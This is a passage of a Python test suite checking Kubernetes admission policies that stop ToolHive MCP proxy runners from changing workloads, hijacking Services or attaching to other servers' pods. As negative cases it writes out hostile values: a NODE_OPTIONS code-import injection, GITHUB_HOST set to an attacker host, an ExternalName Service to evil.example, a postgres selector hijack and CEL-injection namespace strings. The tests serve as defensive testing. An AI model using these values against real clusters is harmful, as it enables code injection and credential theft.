        "apiVersion": "apps/v1", "kind": "StatefulSet", "metadata": {"name": hostile},
        "spec": {"template": {"metadata": {"labels": {"toolhive": "true", "toolhive-name": hostile, "app": hostile}},
                              "spec": {"serviceAccountName": hostile + "-sa", "imagePullSecrets": [{"name": hostile}],
                                       "containers": [{"name": "mcp", "image": hostile + "-image", "args": [hostile], "env": [
                                           {"name": "T", "valueFrom": {"secretKeyRef": {"name": hostile + "-s", "key": "k"}}}]}]}}},
    }
    user = f"user:system:serviceaccount:{namespace}:{hostile}-proxy-runner"
    assert review(policy, statefulset, user) == []
    assert review(policy, statefulset, "user:system:serviceaccount:ns:x-proxy-runner") == []  # another namespace: not matched
    messages = review(policy, statefulset, f"user:system:serviceaccount:{namespace}:x-proxy-runner")
    assert messages[0].startswith(f"system:serviceaccount:{namespace}:x-proxy-runner may not create, change or delete StatefulSet {hostile}: ")
    for field, value in (("imagePullSecrets", [{"name": "x"}]), ("serviceAccountName", "x-sa")):
        changed = copy.deepcopy(statefulset)
        changed["spec"]["template"]["spec"][field] = value
        assert review(policy, changed, user), field
    changed = copy.deepcopy(statefulset)
    changed["spec"]["template"]["spec"]["containers"][0]["env"][0]["valueFrom"]["secretKeyRef"]["name"] = "x"
    assert review(policy, changed, user)
    for field, value in (("image", "x"), ("args", [])):
        changed = copy.deepcopy(statefulset)
        changed["spec"]["template"]["spec"]["containers"][0][field] = value
        assert any(f" with image {hostile}-image, the arguments " in message for message in review(policy, changed, user)), field


def test_the_environment_is_the_shipped_one() -> None:
    """A server shipping NODE_OPTIONS (say a heap size) and GITHUB_HOST: its StatefulSet carries both
    with those values, its Secret's variable from the Secret, and ToolHive's transport variables;
    another value, a value read from elsewhere, a dropped variable or any other name is refused."""
    shipped_env = {"NODE_OPTIONS": "--max-old-space-size=512", "GITHUB_HOST": "https://github.internal"}
    run = cel_value({"image": "node-server:1", "args": [], "env": shipped_env, "secretEnv": ["TOKEN"]})
    [policy] = k8s_workloads.workload_policies("p", NAMESPACE, {"node": ["node-secrets"]}, [], {"node": run})
    def statefulset(*env: dict[str, Any]) -> dict[str, Any]:
        labels = {"toolhive": "true", "toolhive-name": "node", "app": "node"}
        return {"apiVersion": "apps/v1", "kind": "StatefulSet", "metadata": {"name": "node"},
                "spec": {"template": {"metadata": {"labels": labels}, "spec": {
                    "serviceAccountName": "node-sa", "containers": [{"name": "mcp", "image": "node-server:1", "env": list(env)}]}}}}
    shipped = [{"name": name, "value": value} for name, value in shipped_env.items()]
    token = {"name": "TOKEN", "valueFrom": {"secretKeyRef": {"name": "node-secrets", "key": "t"}}}
    transport = [{"name": "MCP_TRANSPORT", "value": "streamable-http"}, {"name": "MCP_PORT", "value": "8080"},
                 {"name": "FASTMCP_PORT", "value": "8080"}, {"name": "MCP_HOST", "value": "0.0.0.0"}]
    assert review(policy, statefulset(*transport, *shipped, token), "node-proxy-runner") == []
    for env in ({"name": "NODE_OPTIONS", "value": "--import=data:text/javascript,1"},
                {"name": "NODE_OPTIONS", "valueFrom": {"configMapKeyRef": {"name": "x", "key": "k"}}},
                {"name": "GITHUB_HOST", "value": "https://attacker.example"},
                {"name": "TOKEN", "value": "chosen"},
                {"name": "MCP_PORT", "valueFrom": {"secretKeyRef": {"name": "node-secrets", "key": "t"}}},
                {"name": "PYTHONPATH", "value": "/tmp"}):
        others = [item for item in shipped + [token] if item["name"] != env["name"]]
        assert review(policy, statefulset(*transport, *others, env), "node-proxy-runner"), env
    for dropped in shipped:
        assert review(policy, statefulset(*transport, *[item for item in shipped if item is not dropped], token),
                      "node-proxy-runner"), dropped


def test_every_server_of_every_profile_runs_as_toolhive_makes_it(files: dict[str, bytes]) -> None:
    """The StatefulSet ToolHive applies for each MCPServer of each profile and variant (sandbox's
    servers with env values, args and HTTP transports included) passes every workload policy."""
    checked = 0
    for folder in sorted({path.split("servers/")[0] for path in files if re.search(r"registries/[^/]+/(legacy/)?servers/[^/]+/mcpserver.yaml$", path)}):
        policy_folder = folder if folder.endswith("legacy/") else folder + "base/"
        policies = [load(files, path) for path in sorted(files)
                    if path.startswith(policy_folder + "admission-policy-workloads") and path.count("/") == policy_folder.count("/")]
        namespace = load(files, policy_folder + "namespace.yaml")["metadata"]["name"]
        for path in sorted(p for p in files if p.startswith(folder + "servers/") and p.endswith("/mcpserver.yaml")):
            server = yaml.safe_load(files[path])
            name = server["metadata"]["name"]
            statefulset = toolhive_statefulset(server)
            request = {"operation": "CREATE", "namespace": namespace,
                       "userInfo": {"username": f"system:serviceaccount:{namespace}:{name}-proxy-runner"},
                       "resource": {"group": "apps", "version": "v1", "resource": "statefulsets"}}
            assert [run_policy(p["spec"], request, statefulset) for p in policies] == [[]] * len(policies), path
            checked += 1
    assert checked > 40


def test_the_namespace_and_every_literal_are_cel_strings() -> None:
    [policy] = k8s_workloads.workload_policies("p", "ns", {"a": ["a-secrets"]}, ["pull"],
                                               {"a": cel_value({"image": "a-image", "args": ["--x"]})})
    assert policy["spec"]["matchConditions"] == [{
        "name": "namespace-service-account", "expression": 'request.userInfo.username.startsWith("system:serviceaccount:ns:")'}]
    variables = {item["name"]: item["expression"] for item in policy["spec"]["variables"]}
    assert variables["secretsByServer"] == '{"a": dyn([dyn("a-secrets")])}' and variables["pullSecrets"] == '[dyn("pull")]'
    assert variables["runs"] == '{"a": {"image": dyn("a-image"), "args": dyn([dyn("--x")])}}'


# --- Services: a proxy runner touches only its own two ------------------------------------


def service_policy(files: dict[str, bytes], variant: str) -> dict[str, Any]:
    """The variant's Service policy, checked to be bound to the profile's namespace, denying."""
    return bound_policy(files, variant, "services")


def toolhive_services(statefulset: dict[str, Any]) -> list[dict[str, Any]]:
    """The Services ToolHive's proxy runner applies beside an HTTP server's StatefulSet (v0.44.0:
    ensureBackendServices, createHeadlessService, createMCPService and applyService in
    pkg/container/kubernetes/client.go): `mcp-<name>-headless` (clusterIP None) and `mcp-<name>`
    (ClientIP session affinity), both with the StatefulSet's labels, selecting `app: <name>`, owned by it."""
    name = statefulset["metadata"]["name"]
    port = int(statefulset["metadata"]["labels"]["toolhive-port"])
    owner = {"apiVersion": "apps/v1", "kind": "StatefulSet", "name": name, "uid": "1", "controller": True,
             "blockOwnerDeletion": True}
    services = []
    for suffix, extra in (("-headless", {"clusterIP": "None"}),
                          ("", {"sessionAffinity": "ClientIP", "sessionAffinityConfig": {"clientIP": {"timeoutSeconds": 1800}}})):
        services.append({
            "apiVersion": "v1", "kind": "Service",
            "metadata": {"name": f"mcp-{name}{suffix}", "namespace": NAMESPACE, "labels": dict(statefulset["metadata"]["labels"]),
                         "ownerReferences": [owner]},
            "spec": {"selector": {"app": name}, "ports": [{"name": f"port-{port}", "port": port, "targetPort": port, "protocol": "TCP"}],
                     "type": "ClusterIP", **extra},
        })
    return services


def operator_proxy_service(name: str) -> dict[str, Any]:
    """The operator's Service in front of an MCPServer's proxy (`mcp-<name>-proxy`, selecting the proxy
    runner's pods by labelsForMCPServer in cmd/thv-operator/controllers/mcpserver_controller.go)."""
    labels = {"app": "mcpserver", "app.kubernetes.io/name": "mcpserver", "app.kubernetes.io/instance": name,
              "toolhive": "true", "toolhive-name": name}
    return {"apiVersion": "v1", "kind": "Service", "metadata": {"name": f"mcp-{name}-proxy", "namespace": NAMESPACE, "labels": labels},
            "spec": {"selector": labels, "ports": [{"port": 8080}], "type": "ClusterIP"}}


def platform_postgres_service() -> dict[str, Any]:
    """The Service the registry server reaches PostgreSQL through (host `postgres`), the platform team's."""
    return {"apiVersion": "v1", "kind": "Service", "metadata": {"name": "postgres", "namespace": NAMESPACE},
            "spec": {"selector": {"app": "postgres"}, "ports": [{"port": 5432}], "type": "ClusterIP"}}


def review_service(policy: dict[str, Any], operation: str, account: str, service: dict[str, Any] | None,
                   old: dict[str, Any] | None = None) -> list[str]:
    assert operation in policy["spec"]["matchConstraints"]["resourceRules"][0]["operations"]
    username = account.removeprefix("user:") if account.startswith("user:") else RUNNER + account
    request = {"operation": operation, "namespace": NAMESPACE, "userInfo": {"username": username},
               "resource": {"group": "", "version": "v1", "resource": "services"}}
    return run_policy(policy["spec"], request, service, old)


@pytest.mark.parametrize("variant", VARIANTS)
@pytest.mark.parametrize("name", ["github", "grafana", "fetch"])
def test_the_services_toolhive_applies_are_admitted(files: dict[str, bytes], variant: str, name: str) -> None:
    policy = service_policy(files, variant)
    for service in toolhive_services(toolhive_statefulset(mcp_server(files, variant, name))):
        account = f"{name}-proxy-runner"
        assert review_service(policy, "CREATE", account, service) == [], service["metadata"]["name"]
        assert review_service(policy, "UPDATE", account, service, copy.deepcopy(service)) == []
        assert review_service(policy, "DELETE", account, None, service) == []


@pytest.mark.parametrize("variant", VARIANTS)
def test_a_proxy_runner_cannot_take_over_the_database_service(files: dict[str, bytes], variant: str) -> None:
    """Pointing `postgres` at its own pods would hand it the registry server's database login."""
    policy = service_policy(files, variant)
    postgres = platform_postgres_service()
    hijacked = copy.deepcopy(postgres)
    hijacked["spec"]["selector"] = {"app": "github"}
    refused_update = review_service(policy, "UPDATE", "github-proxy-runner", hijacked, postgres)
    assert any("Service postgres must select app: github alone and be named mcp-github" in m for m in refused_update)
    assert any("Service postgres selected other pods before" in m for m in refused_update)
    assert review_service(policy, "CREATE", "github-proxy-runner", hijacked)
    assert review_service(policy, "DELETE", "github-proxy-runner", None, postgres)
    assert review_service(policy, "UPDATE", "github-proxy-runner", postgres, postgres)  # any change of it


@pytest.mark.parametrize("variant", VARIANTS)
def test_a_proxy_runner_cannot_take_over_another_servers_services(files: dict[str, bytes], variant: str) -> None:
    policy = service_policy(files, variant)
    grafana = toolhive_services(toolhive_statefulset(mcp_server(files, variant, "grafana")))
    github = toolhive_services(toolhive_statefulset(mcp_server(files, variant, "github")))
    for theirs in grafana:
        assert review_service(policy, "UPDATE", "github-proxy-runner", theirs, theirs)
        assert review_service(policy, "DELETE", "github-proxy-runner", None, theirs)
        taken = copy.deepcopy(theirs)
        taken["spec"]["selector"] = {"app": "github"}
        assert any("selected other pods before" in m for m in review_service(policy, "UPDATE", "github-proxy-runner", taken, theirs))
    # Its own Services selecting the registry server, a proxy or several servers.
    for selector in ({"app": "grafana"}, {"mcp-catalog/component": "registry-api"}, {"app": "github", "toolhive-name": "grafana"},
                     {"app.kubernetes.io/name": "mcpserver"}, {}):
        own = copy.deepcopy(github[1])
        own["spec"]["selector"] = selector
        assert review_service(policy, "CREATE", "github-proxy-runner", own), selector
    # The operator's proxy Service, by a proxy runner whose server's name makes the same Service name.
    proxy = operator_proxy_service("github")
    taken = copy.deepcopy(proxy)
    taken["spec"]["selector"] = {"app": "github-proxy"}
    messages = review_service(policy, "UPDATE", "github-proxy-proxy-runner", taken, proxy)
    assert messages == ["Service mcp-github-proxy selected other pods before: a proxy runner changes only the Services it "
                        "made (the operator's and the platform team's are not its own)"]
    assert review_service(policy, "DELETE", "github-proxy-proxy-runner", None, proxy)


@pytest.mark.parametrize("variant", VARIANTS)
def test_external_ips_and_other_service_types_are_refused(files: dict[str, bytes], variant: str) -> None:
    policy = service_policy(files, variant)
    for change in ({"externalIPs": ["10.0.0.5"]}, {"type": "LoadBalancer"}, {"type": "ExternalName", "externalName": "evil.example"}):
        service = toolhive_services(toolhive_statefulset(mcp_server(files, variant, "github")))[1]
        service["spec"].update(change)
        assert any("may have no external IPs" in m for m in review_service(policy, "CREATE", "github-proxy-runner", service)), change
    nodeport = toolhive_services(toolhive_statefulset(mcp_server(files, variant, "github")))[1]
    nodeport["spec"]["type"] = "NodePort"  # ToolHive's own promotion when a port names a node port
    assert review_service(policy, "CREATE", "github-proxy-runner", nodeport) == []


@pytest.mark.parametrize("variant", VARIANTS)
@pytest.mark.parametrize("account", ["github-sa", "default", "toolhive-registry-server", "production-registry-api"])
def test_service_accounts_that_are_no_proxy_runner_touch_no_service(files: dict[str, bytes], variant: str, account: str) -> None:
    policy = service_policy(files, variant)
    service = toolhive_services(toolhive_statefulset(mcp_server(files, variant, "github")))[1]
    messages = review_service(policy, "CREATE", account, service)
    assert messages[0].startswith(f"{RUNNER}{account} may not create, change or delete Service mcp-github: "), messages
    assert review_service(policy, "DELETE", account, None, platform_postgres_service())
    # People and the operator are left to RBAC.
    for user in ("user:platform-admin", "user:system:serviceaccount:toolhive-system:toolhive-operator"):
        assert review_service(policy, "UPDATE", user, platform_postgres_service(), service) == []


def test_service_policy_literals_are_escaped() -> None:
    namespace = 'ns" || true || "\u00e9'
    policy = k8s_workloads.service_policy(namespace)
    service = {"apiVersion": "v1", "kind": "Service", "metadata": {"name": "mcp-a"}, "spec": {"selector": {"app": "a"}}}
    assert review_service(policy, "CREATE", f"user:system:serviceaccount:{namespace}:a-proxy-runner", service) == []
    messages = review_service(policy, "CREATE", f"user:system:serviceaccount:{namespace}:b-proxy-runner", service)
    assert messages[0].startswith(f"system:serviceaccount:{namespace}:b-proxy-runner may not create, change or delete Service mcp-a: "
                                  f"in namespace {namespace} ")


# --- pods/attach: a proxy runner attaches only to its own server's pod -------------------------


def attach_policy(files: dict[str, bytes], variant: str) -> dict[str, Any]:
    """The variant's attach policy, checked to be bound to the profile's namespace, denying, and to
    match CONNECT of pods/attach alone."""
    policy = bound_policy(files, variant, "attach")
    assert policy["spec"]["matchConstraints"]["resourceRules"] == [
        {"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CONNECT"], "resources": ["pods/attach"]}]
    return policy


def matched(policy: dict[str, Any], operation: str, resource: str) -> bool:
    """Whether a request for `resource` (`pods/attach`, ...) by `operation` reaches the policy (its rules)."""
    return any(operation in rule["operations"] and resource in rule["resources"] and "" in rule["apiGroups"]
               for rule in policy["spec"]["matchConstraints"]["resourceRules"])


def attach(policy: dict[str, Any], account: str, pod: str, options: dict[str, Any] | None = None) -> list[str]:
    """The policy's messages for `account` (a ServiceAccount name in the namespace, or a full user name
    after `user:`) attaching to pod `pod`, as the API server admits it: a CONNECT whose `object` is the
    PodAttachOptions ToolHive sends (not the pod), no `oldObject`; [] means admitted."""
    assert matched(policy, "CONNECT", "pods/attach")
    username = account.removeprefix("user:") if account.startswith("user:") else RUNNER + account
    request = {
        "operation": "CONNECT", "namespace": NAMESPACE, "name": pod, "userInfo": {"username": username},
        "resource": {"group": "", "version": "v1", "resource": "pods"}, "subResource": "attach",
    }
    if options is None:
        options = {"kind": "PodAttachOptions", "apiVersion": "v1", "container": "mcp", "stdin": True, "stdout": True,
                   "stderr": True, "tty": False}
    return run_policy(policy["spec"], request, options, None)


@pytest.mark.parametrize("variant", VARIANTS)
@pytest.mark.parametrize("name", SERVERS + ["a", "a-b", "x1", "mcp-proxy"])
def test_a_proxy_runner_attaches_to_its_own_servers_pod(files: dict[str, bytes], variant: str, name: str) -> None:
    """What ToolHive does for a stdio server: its proxy runner attaches to the StatefulSet's pod <name>-0.
    The policy reads the server's name from the requester, so any MCPServer name works, shipped or not."""
    assert attach(attach_policy(files, variant), f"{name}-proxy-runner", f"{name}-0") == []


@pytest.mark.parametrize("variant", VARIANTS)
@pytest.mark.parametrize("pod", ["fetch-0", "grafana-0", "github-1", "github-0-extra", "github", "github-", "-0", "0",
                                 "postgres-0", "production-registry-api-7d9c-x2k", "github-00", "github-proxy-runner-0"])
def test_a_proxy_runner_attaches_to_no_other_pod(files: dict[str, bytes], variant: str, pod: str) -> None:
    """Another server's pod (its stdin drives that server's tools with its credentials), a second
    replica's, a longer or shorter name, the registry's or the database's pods: all refused."""
    messages = attach(attach_policy(files, variant), "github-proxy-runner", pod)
    assert messages == [f"{RUNNER}github-proxy-runner may not attach to pod {pod}: the ToolHive proxy runner of github "
                        "attaches only to its own server's pod github-0 (another server's stdin would give it that "
                        "server's tools and credentials)"]


@pytest.mark.parametrize("variant", VARIANTS)
def test_a_runner_whose_name_is_a_prefix_of_another_gets_no_more(files: dict[str, bytes], variant: str) -> None:
    """Servers a and a-b: a's proxy runner may not attach to a-b-0 (the prefix trap), nor a-b's to a-0;
    a server named like a proxy runner's suffix gets nothing more either."""
    policy = attach_policy(files, variant)
    assert attach(policy, "a-proxy-runner", "a-b-0")
    assert attach(policy, "a-b-proxy-runner", "a-0")
    assert attach(policy, "a-b-proxy-runner", "a-b-0") == []
    assert attach(policy, "a-proxy-runner", "a-0") == []
    assert attach(policy, "a-proxy-runner-proxy-runner", "a-0")
    assert attach(policy, "a-proxy-runner-proxy-runner", "a-proxy-runner-0") == []


@pytest.mark.parametrize("variant", VARIANTS)
@pytest.mark.parametrize("account", ["github-sa", "default", "production", "toolhive-registry-server", "production-registry-api",
                                     "github-proxy-runner-x", "proxy-runner", "-proxy-runner", "github-proxy-runne"])
def test_service_accounts_that_are_no_proxy_runner_attach_to_nothing(files: dict[str, bytes], variant: str, account: str) -> None:
    """No other ToolHive identity of the namespace is granted pods/attach: one the platform team grants it
    to is refused all the same, on every pod, a server's included."""
    policy = attach_policy(files, variant)
    for pod in ("github-0", f"{account}-0", "postgres-0", "-0"):  # "-0": the name of no server's pod, "" + "-0"
        messages = attach(policy, account, pod)
        assert messages == [f"{RUNNER}{account} may not attach to pod {pod}: in namespace {NAMESPACE} a service account "
                            "attaches to a pod only as the ToolHive proxy runner of an MCPServer (service account "
                            "<name>-proxy-runner), to that server's pod <name>-0"], (pod, messages)


@pytest.mark.parametrize("variant", VARIANTS)
def test_people_the_operator_and_other_namespaces_are_left_to_rbac(files: dict[str, bytes], variant: str) -> None:
    """The platform team attaching while debugging, the operator (toolhive-system), a service account
    of another namespace of the same prefix: not this policy's to judge."""
    policy = attach_policy(files, variant)
    for user in ("platform-admin", "system:admin", "system:serviceaccount:toolhive-system:toolhive-operator",
                 "system:serviceaccount:mcp-production-2:github-proxy-runner", "system:serviceaccount:mcp-production"):
        for pod in ("github-0", "fetch-0", "postgres-0"):
            assert attach(policy, f"user:{user}", pod) == [], (user, pod)


@pytest.mark.parametrize("variant", VARIANTS)
def test_the_attach_options_are_not_taken_for_the_pod(files: dict[str, bytes], variant: str) -> None:
    """In a CONNECT `object` is the PodAttachOptions: the policy reads the pod's name from the request
    alone, so options (or a forged pod-like object) naming another pod change nothing."""
    policy = attach_policy(files, variant)
    text = yaml.safe_dump(policy["spec"]["variables"]) + yaml.safe_dump(policy["spec"]["validations"])
    assert "object" not in text.lower()
    decoy = {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "fetch-0", "labels": {"app": "fetch"}}, "container": "mcp"}
    assert attach(policy, "fetch-proxy-runner", "github-0", decoy)
    assert attach(policy, "github-proxy-runner", "github-0", decoy) == []
    assert attach(policy, "github-proxy-runner", "github-0", {}) == []


@pytest.mark.parametrize("variant", VARIANTS)
def test_only_connect_of_pods_attach_is_matched(files: dict[str, bytes], variant: str) -> None:
    """ToolHive grants proxy runners no pods/exec and no pods/portforward, and pods/log is a GET, which
    admission never sees: the policy matches CONNECT of pods/attach and nothing else."""
    policy = attach_policy(files, variant)
    assert matched(policy, "CONNECT", "pods/attach")
    for operation, resource in (("CONNECT", "pods/exec"), ("CONNECT", "pods/portforward"), ("CONNECT", "pods/proxy"),
                                ("CONNECT", "pods"), ("CONNECT", "services/proxy"), ("CONNECT", "nodes/proxy"),
                                ("CREATE", "pods/attach"), ("CREATE", "pods"), ("UPDATE", "pods"), ("DELETE", "pods"),
                                ("CREATE", "pods/ephemeralcontainers"), ("CREATE", "pods/eviction"), ("CREATE", "pods/binding")):
        assert not matched(policy, operation, resource), (operation, resource)


def test_attach_policy_literals_are_escaped() -> None:
    """A quote, a backslash or a non-ASCII character in the namespace stays one string, and counts as
    one character where the runner's name is cut out of the requester's."""
    namespace = 'ns" || true || "\u00e9\U0001F600'
    policy = k8s_workloads.attach_policy(namespace)
    prefix = f"user:system:serviceaccount:{namespace}:"
    assert attach(policy, f"{prefix}a-proxy-runner", "a-0") == []
    messages = attach(policy, f"{prefix}a-proxy-runner", "b-0")
    assert messages[0].startswith(f"system:serviceaccount:{namespace}:a-proxy-runner may not attach to pod b-0: "
                                  "the ToolHive proxy runner of a attaches only")
    assert attach(policy, f"{prefix}default", "a-0")[0].endswith("to that server's pod <name>-0")
    assert attach(policy, "user:system:serviceaccount:ns:a-proxy-runner", "b-0") == []  # another namespace: not matched
    assert policy["spec"]["matchConditions"] == [{
        "name": "namespace-service-account",
        "expression": 'request.userInfo.username.startsWith("system:serviceaccount:ns\\" || true || \\"\\U000000e9\\U0001f600:")'}]


def test_an_image_change_is_applied_platform_first_then_the_server(files: dict[str, bytes], tmp_path) -> None:
    """docs/bundles.md, "Upgrading a profile namespace": when a release changes a shipped server's image,
    the platform team applies the profile first, then the deployers the server's folder again. Before
    the new profile the new MCPServer is refused; after it, the old one's StatefulSet is (its proxy
    runner can change it no more) and the new one's admitted."""
    import shutil
    from pathlib import Path

    from test_bundles_admission import policies, review as review_server

    source = tmp_path / "source"
    shutil.copytree(DEFAULT_SOURCE, source)
    osv = source / "servers/osv.yaml"
    osv.write_text(osv.read_text().replace("osv-mcp/server:0.1.0", "osv-mcp/server:0.1.1"))
    new = render_files(source)
    old_server, new_server = mcp_server(files, "current", "osv"), mcp_server(new, "current", "osv")
    assert old_server["spec"]["image"] != new_server["spec"]["image"]
    assert review_server(policies(files)["current"], new_server) != []  # the deployer first: refused
    assert review_server(policies(new)["current"], new_server) == []
    policy = workload_policy(new, "current")
    refused(policy, toolhive_statefulset(old_server), "osv-proxy-runner", "with image ghcr.io/stackloklabs/osv-mcp/server:0.1.1")
    assert review(policy, toolhive_statefulset(new_server), "osv-proxy-runner", "UPDATE") == []
    upgrading = " ".join((Path(__file__).resolve().parents[1] / "docs/bundles.md").read_text()
                         .partition("### Upgrading a profile namespace")[2].partition("\n### ")[0].split())
    assert "Then apply in this order: the platform team first" in upgrading
    assert "any change its proxy runner makes to its StatefulSet meanwhile is refused" in upgrading
